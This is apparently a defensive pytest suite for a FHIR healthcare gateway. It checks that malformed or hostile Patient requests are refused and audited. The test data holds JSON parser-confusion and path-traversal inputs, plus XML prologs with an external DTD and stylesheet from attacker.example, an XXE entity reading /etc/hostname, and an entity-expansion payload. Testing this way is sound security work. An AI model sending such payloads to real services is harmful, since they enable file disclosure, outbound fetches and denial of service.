"""Attack cases FHIR-03, 05 to 09, 13, 14, 17 on patients: refused, audited, nothing told, nothing done."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import orjson
import pytest

from gateway.bindings.fhirxml import write
from gateway.declare.bindings import Raw

JSON, XML = "application/fhir+json", "application/fhir+xml"
MESSAGE, ABUSE = ("110113", "message-security", 8), ("110113", "protocol-abuse", 4)
MINOR = ("110110", "ITI-104", 4)
Forge, House, Words = Any, Any, Any


def patient(house: House, **more: Any) -> dict[str, Any]:
    system = f"urn:oid:{house.settings.domain.affinity_oid}"
    return {
        "resourceType": "Patient",
        "identifier": [{"system": system, "value": "CONTRACT-9"}],
        "name": [{"family": "CONTRACT-NAME"}],
        **more,
    }


def put(forge: Forge, words: Words, body: bytes, content_type: str = JSON, query: str | None = None) -> Raw:
    system = f"urn:oid:{forge.house.settings.domain.affinity_oid}"
    asked = f"identifier={system}%7CCONTRACT-9" if query is None else query
    raw = words.fhir(forge.house, "/Patient", asked)
    return replace(raw, method="PUT", headers={**raw.headers, "content-type": content_type}, body=body)


def outcome(found: Any) -> tuple[int, str]:
    return found.status, orjson.loads(found.body)["issue"][0]["code"]


def text(house: House, old: str = "", new: str = "") -> bytes:
    return orjson.dumps(patient(house)).decode().replace(old, new, 1).encode()


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ('{"resourceType"', '{"id":"a","id":"b","resourceType"', MESSAGE),
        ('{"resourceType"', '{"resourceType":"Basic","resourceType"', MESSAGE),
        ('{"resourceType"', '{"multipleBirthInteger":NaN,"resourceType"', MESSAGE),
        ('{"resourceType"', '{"multipleBirthInteger":1e400,"resourceType"', MESSAGE),
        ('{"resourceType"', '{"multipleBirthInteger":%s,"resourceType"' % ("9" * 5000), MESSAGE),
        ('{"resourceType"', '{"multipleBirthInteger":01,"resourceType"', MESSAGE),
        ('{"resourceType"', '{"active":"true","resourceType"', MINOR),
        ('{"resourceType"', '{"contained":[%s],"resourceType"' % ("null," * 100_000 + "null"), MINOR),
        ('{"resourceType"', '{"id":"../../x","resourceType"', MINOR),
        ('{"resourceType"', '{"id":"%s","resourceType"' % ("x" * 65), MINOR),
    ],
)
def test_json_that_two_readers_could_take_differently(
    forge: Forge, words: Words, old: str, new: str, told: tuple[str, str, int]
) -> None:
    found = forge.send(put(forge, words, text(forge.house, old, new)), "fhir")
    assert outcome(found) == (400, "structure")
    assert found.kinds == [told]


def test_fhir_06_depth_and_size(forge: Forge, words: Words) -> None:
    deep = b'{"resourceType":"Patient","extension":' + b"[" * 70 + b"]" * 70 + b"}"
    assert outcome(forge.send(put(forge, words, deep), "fhir")) == (400, "structure")
    with forge.limited(fhir_bytes=1000) as small:
        found = small.send(put(small, words, text(small.house) + b" " * 1000), "fhir")
    assert outcome(found) == (413, "too-long")
    assert found.kinds == [ABUSE]


def test_fhir_09_logical_ids(forge: Forge, words: Words) -> None:
    for name in ("../../x", "%2e%2e%2f", "x" * 65, "%00", "_history", "$meta"):
        found = forge.send(words.fhir(forge.house, f"/Patient/{name}"), "fhir")
        assert outcome(found) == (404, "not-found"), name


def test_fhir_13_media_types(forge: Forge, words: Words) -> None:
    body = text(forge.house)
    found = forge.send(put(forge, words, body, "text/plain"), "fhir")
    assert outcome(found) == (415, "not-supported")
    found = forge.send(put(forge, words, body, f"{JSON}; charset=latin1"), "fhir")
    assert outcome(found) == (415, "not-supported")
    found = forge.send(put(forge, words, write(patient(forge.house))), "fhir")
    assert outcome(found) == (400, "structure")
    mislabelled = put(forge, words, body, XML)
    found = forge.send(replace(mislabelled, headers={**mislabelled.headers, "accept": JSON}), "fhir")
    assert outcome(found) == (400, "structure")


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE Patient SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE Patient [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE Patient [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<?xml-stylesheet href="http://attacker.example/x.xsl"?>',
    ],
)
def test_fhir_14_xml_that_would_fetch_or_grow(forge: Forge, words: Words, prolog: str) -> None:
    xml = write(patient(forge.house)).partition(b"?>\n")[2]
    raw = put(forge, words, prolog.encode() + xml, XML)
    found = forge.send(replace(raw, headers={**raw.headers, "accept": JSON}), "fhir")
    assert outcome(found) == (400, "structure")
    assert found.kinds == [MESSAGE]


def test_fhir_17_criteria_of_a_conditional_update(forge: Forge, words: Words) -> None:
    body = text(forge.house)
    for query, expected in (
        ("", (400, "required")),
        ("identifier=", (400, "invalid")),
        ("identifier=a%7Cb,c%7Cd", (412, "multiple-matches")),
        ("name=x", (400, "not-supported")),
    ):
        assert outcome(forge.send(put(forge, words, body, query=query), "fhir")) == expected


def test_fhir_03_and_05_searches(forge: Forge, words: Words) -> None:
    for query, expected in (
        ("family=x&_count=-1", (400, "invalid")),
        ("family=x&_count=abc", (400, "invalid")),
        ("organization.partof.name=x", (400, "not-supported")),
        ("_has:Observation:patient:_has:AuditEvent:entity:user=x", (400, "not-supported")),
        ("_filter=name%20co%20x", (400, "not-supported")),
    ):
        assert outcome(forge.send(words.fhir(forge.house, "/Patient", query), "fhir")) == expected
